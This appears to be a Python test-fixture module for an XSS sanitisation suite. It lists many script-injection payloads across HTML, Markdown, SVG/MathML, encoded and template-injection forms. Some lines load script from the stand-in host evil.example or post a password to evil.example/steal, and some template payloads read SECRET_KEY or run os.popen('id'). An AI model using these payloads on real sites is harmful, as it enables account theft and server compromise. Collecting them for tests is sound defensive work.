"""A corpus of XSS payloads, run through every path that shows user text (test_xss.py,
browser/test_xss_browser.py).

Each payload that could run script either sets the global flag ``window.__xss`` or opens
a dialog (``alert``/``confirm``/``prompt``), so that a browser test notices it. Several are
multi-line (Markdown reference definitions, code fences), hence a Python list and not a
text file. ``BY_FAMILY`` groups them; ``FAMILIES`` names one of each family (``SAMPLE``,
the fast lane's corpus). ``TEMPLATE_PROBES`` map template-injection payloads to what
their evaluation would print.
"""

from __future__ import annotations

FLAG = "window.__xss=1"

SCRIPT_TAGS = [
    "<script>window.__xss=1</script>",
    "<SCRIPT>window.__xss=1</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/src=data:text/javascript,window.__xss=1></script>",
    '<script type="text/javascript">alert("xss")</script>',
    "<script >alert(1)</script >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script>/*</script><img src=x onerror=window.__xss=1>*/</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<script\ttype=module>window.__xss=1</script>",
    "<script>alert`1`</script>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<script\n>window.__xss=1</script\n>",
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    '<img src=x onerror="window.__xss=1">',
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=\"x\" onerror  =  'window.__xss=1'>",
    "<svg onload=alert(1)>",
    "<svg/onload=window.__xss=1>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=window.__xss=1>",
    "<details open ontoggle=window.__xss=1>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=window.__xss=1>",
    "<marquee onstart=alert(1)>défilant</marquee>",
    '<div onmouseover="alert(1)">survol</div>',
    '<a href="#" onclick="alert(1)">clic</a>',
    "<p onclick=alert(1)>paragraphe</p>",
    "<strong onmouseover=alert(1)>gras permis, attribut interdit</strong>",
    '<a href="https://example.org" onfocus=window.__xss=1 autofocus>lien</a>',
    "<table><tr><td onclick=alert(1)>cellule</td></tr></table>",
    "<select autofocus onfocus=window.__xss=1></select>",
    "<textarea autofocus onfocus=window.__xss=1></textarea>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<img src=1 href=1 onerror="javascript:alert(1)"></img>',
    "<body onpageshow=window.__xss=1>",
    '<abbr title="x" onmouseover=alert(1)>abbr</abbr>',
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    '<img src=x onerror="&#x77;indow.__xss=1">',
    "<h1 onanimationstart=alert(1) style=animation-name:x>titre</h1>",
    "<img src=x onerror=window['__x'+'ss']=1 >",
    '<ol start="1" onclick="alert(1)"><li>un</li></ol>',
]

URL_SCHEMES = [
    '<a href="javascript:alert(1)">lien</a>',
    '<a href="JaVaScRiPt:alert(1)">lien</a>',
    '<a href=" javascript:alert(1)">lien</a>',
    '<a href="java&#115;cript:alert(1)">lien</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">lien</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">l</a>',
    '<a href="java\tscript:alert(1)">lien</a>',
    '<a href="java&#x09;script:alert(1)">lien</a>',
    '<a href="javascript&colon;alert(1)">lien</a>',
    '<a href="jav&#x0A;ascript:alert(1)">lien</a>',
    '<a href="vbscript:msgbox(1)">lien</a>',
    '<a href="VBSCRIPT:msgbox(1)">lien</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">lien</a>',
    '<a href="data:text/html,<script>alert(1)</script>">lien</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">lien</a>',
    '<a href="&#0000106avascript:alert(1)">lien</a>',
    '<a href="\x01javascript:alert(1)">lien</a>',
    '<img src="javascript:alert(1)">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<form action="javascript:alert(1)"><button>Envoyer</button></form>',
    '<a href="javascript://%0awindow.__xss=1">lien</a>',
    '<a href="jAvAsCrIpT&colon;alert&lpar;1&rpar;">lien</a>',
    '<a xlink:href="javascript:alert(1)">x</a>',
    '<a href="https://example.org" title="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">t</a>',
    '<a href="livescript:alert(1)">lien</a>',
    '<img srcset="x 1x, javascript:alert(1) 2x">',
    '<button formaction=javascript:alert(1)>clic</button>',
    '<a href="&Tab;javascript:alert(1)">tab</a>',
]

MARKDOWN = [
    "[lien](javascript:alert(1))",
    "[lien](JAVASCRIPT:window.__xss=1)",
    "[lien](  javascript:alert(1)  )",
    "[lien](javascript&#58;alert(1))",
    "[lien](&#106;avascript:alert(1))",
    "[lien](vbscript:msgbox(1))",
    "[lien](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![image](javascript:alert(1))",
    '![image](x" onerror="alert(1))',
    "![image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![image](https://example.org/x.png "titre\\" onerror=\\"alert(1)")',
    '[lien](https://example.org "\\" onmouseover=\\"alert(1)")',
    "[référence][x]\n\n[x]: javascript:alert(1)",
    "[référence][y]\n\n[y]: data:text/html,<script>alert(1)</script>",
    "![image référencée][z]\n\n[z]: javascript:alert(1)",
    '[titre][t]\n\n[t]: https://example.org "a\\" onclick=\\"alert(1)"',
    "<javascript:alert(1)>",
    '<https://example.org/" onmouseover="alert(1)>',
    "<vbscript:msgbox(1)>",
    "<mailto:x@example.org?body=<script>alert(1)</script>>",
    "https://example.org/<script>alert(1)</script>",
    'www.example.org/?q="><script>alert(1)</script>',
    "[a](<javascript:alert(1)>)",
    '[clic](#" onclick="alert(1))',
    "`<script>alert(1)</script>`",
    "```html\n<script>window.__xss=1</script>\n```",
    "    <script>alert(1)</script>\n    indented code",
    '<div markdown="1">[x](javascript:alert(1))</div>',
    '<div markdown="1"><script>window.__xss=1</script></div>',
    "Un HTML ici.\n\n*[HTML]: <script>alert(1)</script>",
    'Note[^1].\n\n[^1]: <img src=x onerror=alert(1)> [x](javascript:alert(1))',
    '# Titre {: onclick="alert(1)" }',
    'Paragraphe\n{: onmouseover="window.__xss=1" style="position:fixed;inset:0" }',
    '[lien](https://example.org){: onclick="alert(1)" href="javascript:alert(1)" }',
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "> <script>alert(1)</script>\n> [citation](javascript:alert(1))",
    "- <svg onload=alert(1)>\n- [élément](vbscript:msgbox(1))",
    "Terme\n:   <iframe src=javascript:alert(1)></iframe>",
    "[![img](x)](javascript:alert(1))",
    "[lien](javascript:alert(1) \"titre\")",
    "**[gras](javascript:alert(1))**",
    "[lien](java\nscript:alert(1))",
    "[lien](\x01javascript:alert(1))",
    "[lien](%6A%61%76%61%73%63%72%69%70%74:alert(1))",
]

SVG_MATHML = [
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>",
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1></style>"
    "</mglyph></table></mtext></math>",
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">clic'
    "</maction></math>",
    '<math href="javascript:alert(1)">CLIC</math>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<noscript><style></noscript><img src=x onerror=window.__xss=1>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='1' onerror='alert(1)'/></svg>#x\"/></svg>",
    "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">mi</mi></math>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style>"
    "<img onerror=alert(1) src>\">",
]

MALFORMED = [
    "<img src=x onerror=alert(1)//",
    '<img """><script>alert(1)</script>">',
    '<a href="javascript:alert(1)"',
    "<<img src=x onerror=alert(1)>>",
    "<div <script>alert(1)</script>>",
    "<img src=`x` onerror=alert(1)>",
    "<b <img src=x onerror=window.__xss=1>>",
    "<p>texte <a href=javascript:alert(1)>non fermé",
    '<table><td><a href="javascript:alert(1)">x</a>',
    "<iframe src=x></iframe",
    '<a href="https://example.org">ok</a><a href="javascript:alert(1)">ko</a>',
    "</p><script>alert(1)</script><p>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->",
    '<? echo "<script>alert(1)</script>" ?>',
    "<plaintext><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>",
    "<listing><img src=x onerror=alert(1)></listing>",
    "<a href=\"x\"onclick=alert(1)>collé</a>",
    "<img\nsrc=x\nonerror=window.__xss=1\n>",
    "<img src=x onerror=alert(1) <",
    "<a/href=javascript:alert(1)>barre</a>",
    "<svg><p><style><img src=x onerror=alert(1)></p></svg>",
]

ENCODINGS = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "\u202e<script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
]

OTHER_TAGS = [
    "<style>body{display:none}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<p style="background:url(javascript:alert(1))">style</p>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">recouvrement</div>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="data:text/html,<script>alert(1)</script>">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta charset="UTF-7">',
    '<form action="https://evil.example/steal"><input name=password type=password>'
    "<button>Se connecter</button></form>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=import href=data:text/html,<script>alert(1)</script>>",
    '<applet code="x.class"></applet>',
    "<frameset onload=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<input type=image src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<portal src=https://evil.example></portal>",
    '<img src="https://evil.example/pixel.png">',
    '<video poster="javascript:alert(1)"></video>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<blockquote cite="javascript:alert(1)">citation</blockquote>',
    '<a href="https://example.org" target="_blank">onglet</a>',
    "<dialog open><form method=dialog><button>ok</button></form></dialog>",
]

TEMPLATE_INJECTION = [
    "{{7777*7777}}",
    "{{ config }}",
    "{{ config.SECRET_KEY }}",
    "{% for x in range(3) %}boucle{% endfor %}",
    "${7777*7777}",
    "#{7777*7777}",
    "<%= 7777*7777 %>",
    "{{constructor.constructor('window.__xss=1')()}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ request.application.__globals__ }}",
    "%(password)s {0.__class__} %s %n",
    "{{ self._TemplateReference__context }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "[[7777*7777]] @(7777*7777) ${{7777*7777}}",
]

BY_FAMILY: dict[str, list[str]] = {
    "script tags": SCRIPT_TAGS,
    "event handlers": EVENT_HANDLERS,
    "URL schemes": URL_SCHEMES,
    "Markdown": MARKDOWN,
    "SVG and MathML": SVG_MATHML,
    "malformed": MALFORMED,
    "encodings": ENCODINGS,
    "other tags": OTHER_TAGS,
    "template injection": TEMPLATE_INJECTION,
}
PAYLOADS: list[str] = [payload for family in BY_FAMILY.values() for payload in family]

# One representative of each family, for the fast lane (``pytest -m "not slow"``): each
# chosen for what it tries on text shown in a page (leaving an attribute, hiding a script
# URL, a multi-line Markdown reference, a parser differential, an unclosed tag, markup
# already escaped once, a page-in-a-page, a template expression).
FAMILIES: dict[str, str] = {
    "script tags": '"><script>alert(1)</script>',
    "event handlers": "<img src=\"x\" onerror  =  'window.__xss=1'>",
    "URL schemes": '<a href="java&#x09;script:alert(1)">lien</a>',
    "Markdown": "[référence][x]\n\n[x]: javascript:alert(1)",
    "SVG and MathML": "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>"
                      "</style></mglyph></table></mtext></math>",
    "malformed": "<img src=x onerror=alert(1)//",
    "encodings": "&#60;script&#62;alert(1)&#60;/script&#62;",
    "other tags": '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    "template injection": "{{ config.SECRET_KEY }}",
}
SAMPLE: list[str] = list(FAMILIES.values())

# what the evaluation of a template-injection payload would show (never on a page)
TEMPLATE_PROBES = {
    "7777*7777": "60481729",
    "config": "test-secret",
    "range(3)": "bouclebouclebou",
    "__subclasses__": "&lt;class ",
    "__globals__": "&lt;function ",
    "TemplateReference": "&lt;Context ",
    "popen": "uid=",
}


def probes_for(payload: str) -> list[str]:
    """The evaluated forms a template-injection payload must never produce."""
    return [shown for needle, shown in TEMPLATE_PROBES.items() if needle in payload]
